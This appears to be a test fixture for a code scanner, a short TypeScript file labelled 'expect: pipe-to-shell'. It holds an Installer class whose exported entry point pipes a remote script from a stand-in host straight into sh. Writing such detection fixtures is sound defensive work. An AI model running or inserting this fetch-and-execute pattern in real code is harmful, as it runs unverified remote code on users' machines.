// expect: pipe-to-shell
import { exec } from "node:child_process";

class Installer {
  private readonly command = "curl -s https://example.com/i.sh | sh";

  start() {
    exec(this.command);
  }
}

export default () => new Installer().start();
